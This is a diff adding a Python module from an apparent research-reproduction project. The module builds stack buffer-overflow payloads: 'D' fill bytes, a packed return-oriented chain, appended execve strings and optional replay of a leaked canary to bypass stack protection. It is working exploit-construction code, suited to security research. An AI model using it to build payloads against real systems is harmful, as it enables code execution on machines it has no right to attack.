@@ -1,0 +1,108 @@
+"""Overflow payload construction (paper Listing 1).
+
+The payload is the byte blob passed to the vulnerable host as
+``argv[1]``::
+
+    [ fill: 'D' * (fill - 4) + 'FFFF' ]      <- fills buffer + saved fp
+    [ chain word 0 ]                         <- lands on the return address
+    [ chain word 1.. ]                       <- consumed by gadget pops/rets
+    [ appended strings ]                     <- execve path / argument
+
+Binary-safe: addresses contain NUL bytes, which is why the host's
+``recv``-style copy (length-delimited, not NUL-delimited) is the entry
+point — see :mod:`repro.workloads.base`.
+"""
+
+import dataclasses
+import struct
+
+from repro.errors import AttackError
+
+
+@dataclasses.dataclass(frozen=True)
+class Payload:
+    """A finished payload plus the layout facts the attacker relied on."""
+
+    blob: bytes
+    buffer_address: int
+    fill_bytes: int
+    chain_words: tuple
+    string_addresses: dict
+
+    @property
+    def length(self):
+        return len(self.blob)
+
+    def describe(self):
+        lines = [
+            f"payload: {self.length} bytes "
+            f"(fill={self.fill_bytes}, chain={len(self.chain_words)} words)",
+            f"  buffer expected at {self.buffer_address:#010x}",
+        ]
+        for name, address in self.string_addresses.items():
+            lines.append(f"  string {name!r} at {address:#010x}")
+        return "\n".join(lines)
+
+
+def build_payload(chain_words, buffer_address, fill_bytes=104,
+                  strings=None, canary=None, canary_offset=100):
+    """Assemble the Listing-1 byte blob.
+
+    ``strings`` maps name -> bytes; each is appended after the chain,
+    NUL-terminated, and its absolute address is returned so chain words
+    can point at it (compute addresses with :func:`plan_string_addresses`
+    first — they depend only on sizes, not content).
+
+    ``canary`` (with ``canary_offset``) writes a known canary value into
+    the fill so a leaked canary can be replayed — the bypass ablation.
+    """
+    if fill_bytes < 8:
+        raise AttackError("fill must cover at least the FFFF marker")
+    fill = bytearray(b"D" * (fill_bytes - 4) + b"FFFF")
+    if canary is not None:
+        if not 0 <= canary_offset <= fill_bytes - 4:
+            raise AttackError("canary offset outside the fill region")
+        struct.pack_into("<I", fill, canary_offset, canary & 0xFFFFFFFF)
+
+    blob = bytes(fill)
+    blob += b"".join(struct.pack("<I", w & 0xFFFFFFFF) for w in chain_words)
+
+    string_addresses = {}
+    strings = strings or {}
+    cursor = buffer_address + len(blob)
+    for name, value in strings.items():
+        string_addresses[name] = cursor
+        blob += value + b"\x00"
+        cursor += len(value) + 1
+
+    return Payload(
+        blob=blob,
+        buffer_address=buffer_address,
+        fill_bytes=fill_bytes,
+        chain_words=tuple(chain_words),
+        string_addresses=string_addresses,
+    )
+
+
+def plan_string_addresses(buffer_address, fill_bytes, num_chain_words,
+                          strings):
+    """Predict where appended strings will land, before building.
+
+    Chain words typically need these addresses (chicken-and-egg), and
+    they depend only on the *sizes* of everything before them.
+    """
+    cursor = buffer_address + fill_bytes + 4 * num_chain_words
+    addresses = {}
+    for name, value in strings.items():
+        addresses[name] = cursor
+        cursor += len(value) + 1
+    return addresses
+
+
+def payload_total_length(fill_bytes, num_chain_words, strings):
+    """Total payload size for given components (needed for sp prediction)."""
+    return (
+        fill_bytes
+        + 4 * num_chain_words
+        + sum(len(value) + 1 for value in strings.values())
+    )
